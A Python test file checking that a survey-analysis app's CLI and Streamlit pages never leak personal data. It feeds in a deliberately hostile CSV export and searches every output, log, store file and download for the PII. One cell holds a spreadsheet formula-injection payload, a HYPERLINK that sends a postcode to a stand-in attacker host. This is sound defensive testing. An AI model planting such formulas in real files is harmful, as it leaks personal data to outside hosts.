"""Every byte the app and the CLI write is searched for every piece of survey PII fed in.

One victim export carries personal data everywhere a careless or hostile export could:
the PII columns, the free text, labels, the date, the ID, an extra column's header, the
file name. It is imported through the CLI (valid rows, rejects kept aside) and through the
Upload page, then read back by every CLI command and the comments page. The store's
files (raw bytes and, for Parquet, decoded values), the rejects file, the upload log,
stdout, stderr, log records, warnings, every element AppTest sees and every download the
page offers must hold none of it.
"""

from __future__ import annotations

import logging
import warnings
from pathlib import Path

import polars as pl
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from insight.cli import main
from tests.conftest import REPO
from tests.hostile import PII
from tests.messy import read_rows, write_rows

HOSTILE_NAME = f"victims for {PII['email']} {PII['phone_mobile']}.csv"


def hostile_export(example: bytes) -> tuple[bytes, set[str]]:
    """The victim example with PII in every place; and every PII string in it."""
    rows = read_rows(example)
    header = rows[0]
    col = {name: i for i, name in enumerate(header)}
    fed = set(PII.values())
    for row in rows[1:]:
        fed.update([row[col["Crime Reference"]], row[col["Email Address"]]])
    # the free text: every form, several per comment
    forms = list(PII.values())
    for n, row in enumerate(rows[1:11]):
        row[col["Any other comments?"]] = f"ring {forms[n % len(forms)]} or write {forms[(n + 3) % len(forms)]}"
    rows[11][col["Offence Group"]] = PII["email"]  # an unknown label holding PII
    rows[12][col["Contact Method"]] = PII["phone_landline"]
    rows[13][col["Survey Completed"]] = f"call {PII['phone_intl']}"  # an unreadable date
    rows[14][col["Response ID"]] = PII["email_accented"]  # an ID that is an email
    rows[15][col["Response ID"]] = PII["crime_ref_plain"]
    rows[16][col["Q1 How satisfied were you with the initial contact you had with West Midlands Police?"]] = (
        f'=HYPERLINK("https://evil.example/{PII["postcode"]}")'
    )
    rows[0] = [*header, f"notes for {PII['email']}"]
    for row in rows[1:]:
        row.append(PII["ni_number"])
    return write_rows(rows), {v for v in fed if v}


def variants(value: str) -> set[str]:
    """A value as typed and in the forms a writer might normalise it to."""
    return {value, value.lower(), value.upper(), value.replace(" ", ""), value.strip()}


def leaks(text: str, fed: set[str]) -> list[str]:
    lowered = text.lower()
    return sorted({v for value in fed for v in variants(value) if v and v.lower() in lowered})


def stored_text(folder: Path) -> str:
    """Every file under the store as bytes, and Parquet files' values decoded too."""
    parts = []
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        data = path.read_bytes()
        parts.append(data.decode("utf-8", errors="replace"))
        parts.append(path.name)
        if path.suffix == ".parquet":
            frame = pl.read_parquet(path)
            parts.append(frame.select(pl.all().cast(pl.String)).write_csv())
    return "\n".join(parts)


@pytest.fixture()
def example(exports) -> bytes:
    return (exports / "victim_survey_example.csv").read_bytes()


@pytest.fixture()
def downloads(monkeypatch) -> list[bytes]:
    """Every file the page hands to the browser (CSV and PNG downloads)."""
    captured: list[bytes] = []
    real = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):
        if isinstance(path_or_data, bytes | str) and not isinstance(path_or_data, str):
            captured.append(path_or_data)
        elif isinstance(path_or_data, str) and filename and filename.endswith(".csv"):
            captured.append(path_or_data.encode())
        return real(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)

    # Downloads written only when pressed (the tables' CSVs, the charts' PNGs): written here as the page
    # offers them, so what a press would hand over is searched too.
    from streamlit.runtime.media_file_manager import MediaFileManager

    deferred = MediaFileManager.add_deferred

    def write_now(self, data_callable, *args, **kwargs):
        if (kwargs.get("file_name") or "").endswith(".csv"):
            written = data_callable()
            captured.append(written.encode() if isinstance(written, str) else bytes(written))
        return deferred(self, data_callable, *args, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", write_now)
    return captured


def app_text(at: AppTest) -> str:
    parts: list[str] = []
    for kind in ("markdown", "title", "header", "subheader", "caption", "info", "warning", "error", "success"):
        parts += [str(e.value) for e in at.get(kind)]
    parts += [m.label + str(m.value) for m in at.metric]
    parts += [d.value.to_csv() for d in at.dataframe]
    return "\n".join(parts)


def test_no_survey_pii_in_anything_written(example, data_dir, tmp_path, capsys, caplog, downloads, monkeypatch):
    monkeypatch.setenv("INSIGHT_SAMPLES", "off")
    caplog.set_level(logging.DEBUG)
    data, fed = hostile_export(example)
    assert len(fed) > 40
    path = tmp_path / HOSTILE_NAME
    path.write_bytes(data)
    seen: list[str] = []

    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        # the Upload page first (it offers no Import for a file whose rows are all held already): preview,
        # import, then the comments page and its downloads
        at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
        at.switch_page("app_pages/upload.py").run()
        at.file_uploader(key="uploads").set_value([(HOSTILE_NAME, data, "text/csv")]).run()
        at.checkbox(key="skip_invalid").check().run()
        assert "ID looks like an email address" in app_text(at)
        seen.append(app_text(at))
        next(b for b in at.button if b.label == "Import").click().run()
        assert not at.exception, at.exception
        seen.append(app_text(at))
        at.switch_page("app_pages/comments.py").run()
        assert not at.exception, at.exception
        seen.append(app_text(at))
        at.switch_page("app_pages/satisfaction.py").run()
        seen.append(app_text(at))
        # the CLI: refused whole, then imported with the invalid rows set aside
        assert main(["ingest", "victim", str(path)]) == 1
        assert main(["ingest", "victim", str(path), "--skip-invalid"]) == 0
        for args in (
            ["report", "victim", "--format", "csv"],
            ["report", "victim", "--by", "channel_group", "--format", "json"],
            ["report", "victim", "--format", "table"],
            ["themes", "victim", "--format", "csv"],
            ["represent", "victim", "--by", "ethnicity", "--format", "csv"],
            ["validity", "victim", "--format", "json"],
        ):
            assert main(args) == 0, args
        out = capsys.readouterr()
        seen += [out.out, out.err]

    seen += [str(w.message) for w in caught]
    seen += [r.getMessage() for r in caplog.records]
    seen += [d.decode("utf-8", errors="replace") for d in downloads]
    seen.append(stored_text(data_dir))

    assert list((data_dir / "rejected").glob("*.csv")), "the rejects were written, so they were searched"
    assert downloads, "the page offered downloads, so they were searched"
    assert "[email]" in seen[-1] or "[phone]" in seen[-1], "masked comments reached the store"
    everything = "\n".join(seen)
    assert leaks(everything, fed) == []
